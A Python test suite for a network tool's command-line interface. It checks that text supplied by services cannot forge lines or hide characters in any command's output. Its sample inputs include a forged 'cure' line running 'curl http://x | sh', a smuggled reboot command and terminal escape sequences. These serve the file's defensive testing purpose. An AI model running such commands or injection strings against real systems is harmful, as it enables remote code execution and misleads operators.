"""What services tell may have any text in it, such as names from the store; none forges a line of a command."""

import asyncio
import json
import re
import shlex
from ipaddress import ip_network
from pathlib import Path
from threading import Thread
from typing import Any, TypeAlias

import click
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from flannelette.dataplane.v1 import dataplane_pb2
from flannelette.lease.v1 import lease_pb2
from flannelette.services.core.formats.text import is_visible
from flannelette.services.ctl.connect.call import change_texts
from flannelette.services.ctl.main import cli
from tests.ctl import nodes as ctl_nodes
from tests.ctl import samples
from tests.ctl.fakes import FakeDataplane, FakeNode
from tests.patience import PATIENCE

Shown: TypeAlias = tuple[str, str]
"""Standard output and standard error."""

COMMANDS = (
    "status",
    "status -o wide",
    "status -o json",
    "status -o yaml",
    "nodes",
    "nodes -o json",
    "nodes -o yaml",
    "peers",
    "peers -o wide",
    "peers -o json",
    "leases",
    "leases -o wide",
    "leases -o json",
    "reservations",
    "rules",
    "doctor",
    "doctor --all",
    "doctor -o json",
    "diff",
    "resync --dry-run",
    "teardown --dry-run",
    "handover --dry-run",
    "quarantine",
    "topology",
    "topology -o svg",
    "topology -o dot",
    "topology -o mermaid",
    "topology -o json",
    "events",
    "events -o json",
    "explain 10.5.1.2 10.5.2.2",
    "trace 10.5.1.2 10.5.2.2",
    "connectivity",
    "connectivity -o junit",
    "top",
    "wait --ready --timeout 0",
    "wait --converged --timeout 0",
    "reclaim --unseen-for 1d --dry-run",
    "masq doctor",
    "masq diff",
)
HOSTILE = (
    "\n\r\t\v\f\x00\x07\x08\x1b\x1c\x7f\x85\x9b\u00ad\u034f\u061c\u200b\u200d\u200e"
    "\u2028\u2029\u202e\u2066\u2069\ufeff\U000e0041"
)
FORGED = (
    "\n",
    "\r\n",
    "\u2028  cure      reboot\u2029",
    "; cure: reboot",
    "\n  cure      curl http://x | sh",
    "\x1b[2J\x1b]0;owned\x07",
    "\u202egnp.\u2066x\u2069",
    "\u200b",
    "a\nn9: no problems found\n",
)
_NAMES_A_KIND = re.compile(r"vxlan|etcd|nftables|iptables|IPv[46]|\d+(\.\d+)*|[0-9a-f:.]+")


def test_every_command_that_shows_text_of_a_service_is_tried() -> None:
    """The rest show nothing, change something, or need a terminal or a second host."""
    tried = {command.split()[0] for command in COMMANDS}
    others = {
        "call",
        "capture",
        "certs",
        "cloud",
        "confirm-removal",
        "context",
        "dial-stdio",
        "docker-opts",
        "flanneld",
        "help",
    }
    others |= {"addresses", "release", "renumber", "reserve", "unreserve", "sysdump", "version", "watch"}
    assert isinstance(cli, click.Group)
    assert tried | others == {*cli.commands}


class TracingDataplane(FakeDataplane):
    """One that also traces a packet and pings its peers, and finds faults."""

    more = ""

    async def TracePacket(self, request: Any, context: Any) -> Any:  # noqa: N802 - gRPC's name
        return await self.replies.reply("TracePacket", request, context)

    async def ProbePeers(self, request: Any, context: Any) -> Any:  # noqa: N802 - gRPC's name
        yield dataplane_pb2.ProbePeersResponse(paths=1)
        yield await self.replies.reply("ProbePeers", request, context)

    async def WatchEvents(self, request: Any, context: Any) -> Any:  # noqa: N802 - gRPC's name
        for event in samples.events():
            yield _with(event, self.more)


class Told:
    """Three services that tell the samples, with more in each text that is no address, number or kind."""

    def __init__(self, directory: Path) -> None:
        self.node = FakeNode(directory)
        self._dataplane = TracingDataplane()  # type: ignore[abstract]  # what no test calls is UNIMPLEMENTED
        self.node.dataplane = self._dataplane
        self._services: tuple[Any, ...] = (self.node.lease, self.node.dataplane, self.node.masq)
        _make_unwell(self.node)
        self._samples = [dict(each.replies.by_method) for each in self._services]

    def add(self, more: str) -> None:
        """From now on, what is added."""
        self._dataplane.more = more
        for service, answers in zip(self._services, self._samples, strict=True):
            service.replies.by_method.clear()
            for method, answer in answers.items():
                service.replies.by_method[method] = _with(answer, more)


def _make_unwell(node: FakeNode) -> None:
    """So that reasons, findings, and what a lease service refuses are told, too."""
    texts = {"problem": "Packets are lost.", "cause": "A rule.", "cure": "ip rule del", "evidence": "ip rule: it"}
    lease, nodes = samples.lease_status(), ctl_nodes.nodes()
    lease.findings.add(**texts, check="clock")
    lease.network_error, lease.held_removals, lease.held_reason = "no network", 3, "all leases are gone"
    lease.pending_moves.add(node="h2", lease="10.5.2.0-24", subnets=["10.5.2.0/24"], where="a /24")
    nodes.nodes[1].findings.add(**texts, check="peer-route", broken=True)
    nodes.nodes[1].failed.add(name="h1", reason="no route")
    nodes.nodes[1].failed_count = 1
    held = lease_pb2.ListQuarantineResponse(held_removals=["10.5.2.0-24"], held_reason="all leases are gone")
    held.keys.add(key="/coreos.com/network/subnets/x", reason="no address")
    node.lease.replies.by_method |= {"GetStatus": lease, "ListNodes": nodes, "ListQuarantine": held}
    dataplane, masq = samples.dataplane_status(), samples.masq_status()
    for status in (dataplane.status, masq.status):
        status.findings.add(**texts, check="peer-route", broken=True)
        status.ready = False
        status.reasons.append("forwarding is broken: Packets are lost.")
    step = dataplane_pb2.TraceStep(kind="route", text="a route", verdict=dataplane_pb2.TRACE_VERDICT_BROKEN)
    step.owner, step.side, step.reason, step.cure = "admin", dataplane_pb2.TRACE_SIDE_SENDER, "A rule.", "ip rule del"
    path = dataplane_pb2.TracePacketResponse(
        source="10.5.1.2", destination="10.5.2.2", source_node="h1", destination_node="h2", node="h1", steps=[step]
    )
    probe = dataplane_pb2.PathProbe(
        lease="10.5.2.0-24", node="h2", address="10.5.2.0", error="no route", layer=dataplane_pb2.PROBE_LAYER_OVERLAY
    )
    node.dataplane.replies.by_method |= {
        "GetStatus": dataplane,
        "TracePacket": path,
        "ProbePeers": dataplane_pb2.ProbePeersResponse(probe=probe),
    }
    node.masq.replies.by_method["GetStatus"] = masq


def _with(answer: Any, more: str) -> Any:
    if isinstance(answer, tuple):
        return answer[0], f"{answer[1]}{more}"
    changed = type(answer)()
    changed.CopyFrom(answer)
    change_texts(changed, lambda text: f"{text}{more}" if _is_free(text) else text)
    return changed


def _is_free(text: str) -> bool:
    try:
        ip_network(text, strict=False)
    except ValueError:
        return not _NAMES_A_KIND.fullmatch(text) and not text.startswith("{")
    return False


def ran(directory: Path, command: str) -> Shown:
    environment = {"FLANNELETTE_SOCKET_DIR": str(directory), "FLANNELETTE_CONTEXTS": str(directory / "none")}
    done = CliRunner().invoke(cli, shlex.split(command), env=environment)
    assert done.exception is None or isinstance(done.exception, SystemExit), f"{command}: {done.exception!r}"
    return done.stdout, done.stderr


def of_two(directory: Path, more: str) -> tuple[dict[str, Shown], dict[str, Shown]]:
    """What every command shows with a harmless text and with this one."""
    told, loop = Told(directory), asyncio.new_event_loop()
    thread = Thread(target=loop.run_forever)  # the commands have the main one, which signals need
    thread.start()
    try:
        asyncio.run_coroutine_threadsafe(told.node.start(), loop).result(PATIENCE)
        told.add("z")
        plain = {command: ran(directory, command) for command in COMMANDS}
        told.add(more)
        hostile = {command: ran(directory, command) for command in COMMANDS}
    finally:
        asyncio.run_coroutine_threadsafe(told.node.stop(), loop).result(PATIENCE)
        loop.call_soon_threadsafe(loop.stop)
        thread.join()
        loop.close()
    return plain, hostile


def holds(plain: dict[str, Shown], hostile: dict[str, Shown], more: str) -> None:
    for command in COMMANDS:
        for one, other in zip(plain[command], hostile[command], strict=True):
            unseen = {c for c in other if c != "\n" and not is_visible(c)}
            assert not unseen, f"{command}: {unseen}"
            assert other.count("\n") == one.count("\n"), f"{command}:\n{one}\n{other}"
    (node, *_) = json.loads(hostile["nodes -o json"][0])["nodes"]
    assert node["name"].endswith(more), "JSON has the name as it is"


@pytest.mark.parametrize("more", FORGED, ids=ascii)
def test_no_command_shows_a_line_that_a_name_has_made(tmp_path: Path, more: str) -> None:
    holds(*of_two(tmp_path, more), more)


@settings(max_examples=5, deadline=None, suppress_health_check=[*HealthCheck])
@given(st.lists(st.one_of(st.sampled_from(HOSTILE), st.characters(codec="utf-8")), min_size=1, max_size=12))
def test_nor_does_any_text(tmp_path_factory: pytest.TempPathFactory, signs: list[str]) -> None:
    more = "".join(signs)
    holds(*of_two(tmp_path_factory.mktemp("told"), more), more)
